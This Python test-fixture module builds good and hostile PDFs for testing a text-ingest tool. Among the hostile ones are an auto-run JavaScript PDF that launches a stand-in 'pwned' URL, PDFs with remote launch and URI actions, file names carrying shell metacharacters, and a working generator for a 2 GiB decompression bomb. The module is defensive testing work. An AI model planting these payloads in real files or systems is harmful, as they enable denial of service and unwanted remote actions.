"""Make good and hostile PDFs at test time (nothing binary is committed).

The raw writer emits plain PDF 1.7 syntax (objects, one xref table, trailer), so a 2,000-page file or a
decompression bomb costs milliseconds; pypdf's PdfWriter is used only where it adds something (encryption).
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Sequence
from pathlib import Path

# Words for page text that differs from page to page (the cleaner drops lines repeated across pages).
WORDS = (
    "migration policy city arrival housing language school health work integration refugee municipal "
    "service access rights welcome office support community network registration document training "
    "volunteer mentor employer partnership dialogue cohesion inclusion participation local regional "
    "national consultation strategy evaluation budget coordination outreach interpreter library sport "
    "culture neighbourhood tenant landlord clinic nurse teacher pupil apprentice qualification diploma"
).split()

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def pdf_string(text: str) -> bytes:
    """A PDF literal string in WinAnsi (cp1252) with ( ) \\ and non-ASCII bytes escaped."""
    out = bytearray(b"(")
    for b in text.encode("cp1252", errors="replace"):
        if b in b"()\\":
            out += b"\\" + bytes([b])
        elif 32 <= b < 127:
            out.append(b)
        else:
            out += b"\\%03o" % b
    return bytes(out + b")")


def text_ops(lines: Sequence[str], size: int = 11) -> bytes:
    """Content-stream operators that show `lines` top-down in Helvetica."""
    ops = [b"BT /F1 %d Tf %d TL 56 790 Td" % (size, size + 3)]
    for line in lines:
        ops.append(pdf_string(line) + b" Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops) + b"\n"


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def assemble(objects: Sequence[bytes], catalog: int = 1) -> bytes:
    """Objects numbered 1..n, an xref table with the exact offsets, and a trailer whose /Root is `catalog`."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % num + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, catalog, xref))
    return out.getvalue()


def text_pdf(pages: Sequence[Sequence[str]], catalog_extra: bytes = b"", page_extra: Sequence[bytes] = (),
             extra_objects: Sequence[bytes] = ()) -> bytes:
    """A PDF with one page per entry of `pages` (each a list of lines).

    Object layout: 1 catalog, 2 page tree, 3 font, then (page, content) pairs, then `extra_objects`
    (numbered from 4 + 2 * len(pages)); `page_extra[i]` is spliced into page i's dictionary.
    """
    n = len(pages)
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(n))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (n, kids),
        FONT,
    ]
    for i, lines in enumerate(pages):
        extra = page_extra[i] if i < len(page_extra) else b""
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
                    b"/Contents %d 0 R %s>>" % (5 + 2 * i, extra))
        objs.append(stream(text_ops(lines)))
    objs.extend(extra_objects)
    return assemble(objs)


def first_extra_object(n_pages: int) -> int:
    """Number of the first object passed as `extra_objects` to text_pdf."""
    return 4 + 2 * n_pages


def sentence(rng: random.Random, n: int = 14) -> str:
    words = [rng.choice(WORDS) for _ in range(n)]
    return " ".join(words).capitalize() + "."


def varied_pages(n_pages: int, lines_per_page: int = 1, seed: int = 0, tag: str = "") -> list[list[str]]:
    """Pages of pseudo-random sentences: no line repeats across pages, so none is taken for a header."""
    rng = random.Random(seed)
    return [[f"{tag}{sentence(rng)} Item {i + 1}-{j + 1}." for j in range(lines_per_page)] for i in range(n_pages)]


# -- the specimens -------------------------------------------------------------------------------------
def good_pdf(path: Path, n_pages: int = 3, lines_per_page: int = 6, seed: int = 1, tag: str = "") -> Path:
    path.write_bytes(text_pdf(varied_pages(n_pages, lines_per_page, seed, tag)))
    return path


def large_pdf(path: Path, n_pages: int = 2000) -> Path:
    """`n_pages` pages with one distinct line each: ~0.5 MB, written in well under a second."""
    path.write_bytes(text_pdf(varied_pages(n_pages, 1, seed=2000, tag="Large ")))
    return path


def encrypted_pdf(path: Path, user_password: str, owner_password: str, text: str) -> Path:
    """RC4-128 encrypted (pypdf's default: no crypto library needed)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf([[text, "Second line of the encrypted page."]]))))
    writer.encrypt(user_password=user_password, owner_password=owner_password)
    buf = io.BytesIO()
    writer.write(buf)
    path.write_bytes(buf.getvalue())
    return path


def scanned_pdf(path: Path, n_pages: int = 2) -> Path:
    """Pages that only paint an image (what a scanner produces): no text layer at all."""
    w = h = 16
    pixels = bytes((x * 16 + y) % 256 for y in range(h) for x in range(w))
    n = n_pages
    kids = b" ".join(b"%d 0 R" % (5 + 2 * i) for i in range(n))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (n, kids),
        FONT,
        stream(zlib.compress(pixels), b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                                      b"/BitsPerComponent 8 /Filter /FlateDecode " % (w, h)),
    ]
    for i in range(n):
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> "
                    b"/Contents %d 0 R >>" % (6 + 2 * i))
        objs.append(stream(b"q 500 0 0 700 47 71 cm /Im1 Do Q\n"))
    path.write_bytes(assemble(objs))
    return path


def whitespace_pdf(path: Path) -> Path:
    """Text operators that show only spaces (and a tab)."""
    path.write_bytes(text_pdf([["      ", "   "], ["\t  ", " "]]))
    return path


EMBEDDED_MARKER = "Xylophonequartzembedded"
JS_MARKER = "Jabberwockyscript"


def active_content_pdf(path: Path, text: str) -> Path:
    """JavaScript (/OpenAction and the /JavaScript name tree), an embedded file (/EmbeddedFiles) and a
    file-attachment annotation. The JavaScript would save the attachment and open a URL if it ran."""
    js = (f"var {JS_MARKER} = 1; this.exportDataObject({{cName: 'payload.txt', nLaunch: 2}}); "
          "app.launchURL('http://198.51.100.7/pwned', true);")
    payload = f"{EMBEDDED_MARKER} secret attachment text that must never reach the index.\n".encode()
    base = first_extra_object(1)
    ef, spec, action = base, base + 1, base + 2
    extra_objects = [
        stream(payload, b"/Type /EmbeddedFile /Subtype /text#2Fplain /Params << /Size %d >> " % len(payload)),
        b"<< /Type /Filespec /F (payload.txt) /UF (payload.txt) /EF << /F %d 0 R >> >>" % ef,
        b"<< /S /JavaScript /JS " + pdf_string(js) + b" >>",
    ]
    catalog = (b"/OpenAction %d 0 R /Names << /EmbeddedFiles << /Names [(payload.txt) %d 0 R] >> "
               b"/JavaScript << /Names [(init) %d 0 R] >> >> " % (action, spec, action))
    annot = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [50 50 70 70] /FS %d 0 R /Name /PushPin >>] " % (
        spec)
    path.write_bytes(text_pdf([[text, "The visible page text is all that should be indexed."]], catalog, [annot],
                              extra_objects))
    return path


REMOTE = "http://198.51.100.7"  # TEST-NET-2: never routable


def remote_links_pdf(path: Path, text: str) -> Path:
    """Link annotations with /URI, remote /GoToR and /Launch actions, a /URI open action, a /URI base, and a
    stream whose data lives at a URL (/F with /FS /URL): none of which a text extractor may follow."""
    url = REMOTE.encode()
    external = first_extra_object(1)
    objs = [b"<< /Length 0 /F << /FS /URL /F (%s/external-stream.bin) >> >>\nstream\n\nendstream" % url]
    links = [
        b"/A << /S /URI /URI (%s/uri) >>" % url,
        b"/A << /S /GoToR /F << /Type /Filespec /FS /URL /F (%s/remote.pdf) >> /D [0 /Fit] >>" % url,
        b"/A << /S /Launch /F (%s/run.exe) >>" % url,
    ]
    annots = b" ".join(b"<< /Type /Annot /Subtype /Link /Rect [56 %d 300 %d] %s >>" % (700 - 50 * i, 720 - 50 * i, a)
                       for i, a in enumerate(links))
    page = b"/Annots [%s] /PieceInfo << /X << /Private %d 0 R >> >> " % (annots, external)
    catalog = b"/OpenAction << /S /URI /URI (%s/open) >> /URI << /Base (%s/) >> " % (url, url)
    path.write_bytes(text_pdf([[text, "See the remote annex for details."]], catalog, [page], objs))
    return path


def deflate_bomb(inflated: int, prefix: bytes, segment: int = 1 << 20) -> bytes:
    """A zlib stream of `prefix` followed by `inflated` zero bytes (rounded up to `segment`), ~1000:1.

    Built without compressing gigabytes: after a full flush the compressor's output for a segment of zeros
    is the same every time, so it is computed once and repeated; the Adler-32 trailer is computed in closed
    form (zeros leave `a` unchanged and add `a` to `b` once per byte).
    """
    c = zlib.compressobj(9)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(bytes(segment)) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(bytes(segment)) + c.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "zlib output after a full flush is expected to repeat"
    tail = c.flush()[:-4]
    count = -(-inflated // segment)
    adler = zlib.adler32(prefix)
    a, b = adler & 0xFFFF, adler >> 16
    b = (b + count * segment * a) % 65521
    return head + block * count + tail + struct.pack(">I", (b << 16) | a)


def bomb_pdf(path: Path, inflated: int = 2 << 30, text: str = "Before the bomb.") -> Path:
    """One page whose FlateDecode content stream inflates to `inflated` bytes (2 GiB by default)."""
    body = deflate_bomb(inflated, text_ops([text]))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
        FONT,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
        b"/Contents 5 0 R >>",
        stream(body, b"/Filter /FlateDecode "),
    ]
    path.write_bytes(assemble(objs))
    return path


def png_bytes() -> bytes:
    """A valid 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(
        b"IEND", b"")


def truncated(src: Path, path: Path, share: float = 0.3) -> Path:
    data = src.read_bytes()
    path.write_bytes(data[: int(len(data) * share)])
    return path


# -- a set of every bad specimen, with the reason each must be reported with ------------------------------
def bad_files(folder: Path, real_pdf: Path) -> dict[Path, str]:
    """Write every hostile input into `folder`; value = a regex the failure reason must match."""
    folder.mkdir(parents=True, exist_ok=True)
    specimens: dict[Path, str] = {}
    empty = folder / "empty.pdf"
    empty.write_bytes(b"")
    specimens[empty] = r"^empty file \(0 bytes\)$"
    specimens[truncated(real_pdf, folder / "truncated.pdf")] = r"^cannot read PDF|^no extractable text"
    text = folder / "notes.pdf"
    text.write_text("Just some notes, not a PDF at all.\n")
    specimens[text] = r"^not a PDF"
    png = folder / "picture.pdf"
    png.write_bytes(png_bytes())
    specimens[png] = r"^not a PDF"
    specimens[encrypted_pdf(folder / "locked.pdf", "s3cret", "owner", "Locked secret text")] = (
        r"^encrypted PDF: a password is required$")
    specimens[scanned_pdf(folder / "scanned.pdf")] = r"^no extractable text: scanned\? OCR is not enabled$"
    specimens[whitespace_pdf(folder / "blank.pdf")] = r"^no extractable text: scanned\? OCR is not enabled$"
    specimens[bomb_pdf(folder / "bomb.pdf")] = r"limit"
    return specimens


ODD_NAMES = (
    "with spaces in the name.pdf",
    "accentué éàçœ ÉTÉ.pdf",
    "quote's \"double\" `back`.pdf",
    "new\nline.pdf",
    "tab\tand ;semicolon $HOME.pdf",
)


# -- running the real command line ----------------------------------------------------------------------
ROOT = Path(__file__).resolve().parents[1]

_MEASURED = r"""
import json, resource, subprocess, sys, time
t = time.perf_counter()
p = subprocess.run(sys.argv[1:], capture_output=True, text=True, encoding="utf-8", errors="replace")
print(json.dumps({"rc": p.returncode, "stdout": p.stdout, "stderr": p.stderr, "seconds": time.perf_counter() - t,
                  "maxrss_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def arrival_env(home: Path, **extra: str) -> dict[str, str]:
    import os

    path = os.pathsep.join(p for p in (extra.pop("PYTHONPATH", ""), str(ROOT), os.environ.get("PYTHONPATH", "")) if p)
    return {**os.environ, "ARRIVAL_HOME": str(home), "ARRIVAL_MODEL": "hash:256", "PYTHONPATH": path,
            "ARRIVAL_GC_GRACE_SECONDS": "0", **extra}


def arrival_argv(*args: str) -> list[str]:
    import sys

    return [sys.executable, "-m", "arrival.cli", *args]


def run_arrival(args: Sequence[str], home: Path, cwd: Path | None = None, timeout: float = 600, **extra: str
                ):  # type: ignore[no-untyped-def]
    """`arrival ARGS` as a subprocess (hash:256 embedder); a CompletedProcess with text output."""
    import subprocess

    return subprocess.run(arrival_argv(*args), capture_output=True, text=True, encoding="utf-8", errors="replace",
                          env=arrival_env(home, **extra), cwd=cwd or ROOT, timeout=timeout)


def run_measured(args: Sequence[str], home: Path, timeout: float = 900, **extra: str) -> dict[str, object]:
    """Run `arrival ARGS` under a fresh parent process that reports the peak RSS of its children (the ingest
    and the processes it reaped): {"rc", "stdout", "stderr", "seconds", "peak_mb"}."""
    import json
    import subprocess
    import sys

    p = subprocess.run([sys.executable, "-c", _MEASURED, *arrival_argv(*args)], capture_output=True, text=True,
                       encoding="utf-8", env=arrival_env(home, **extra), cwd=ROOT, timeout=timeout)
    assert p.returncode == 0, p.stderr
    out = json.loads(p.stdout)
    out["peak_mb"] = out.pop("maxrss_kb") / 1024
    return dict(out)
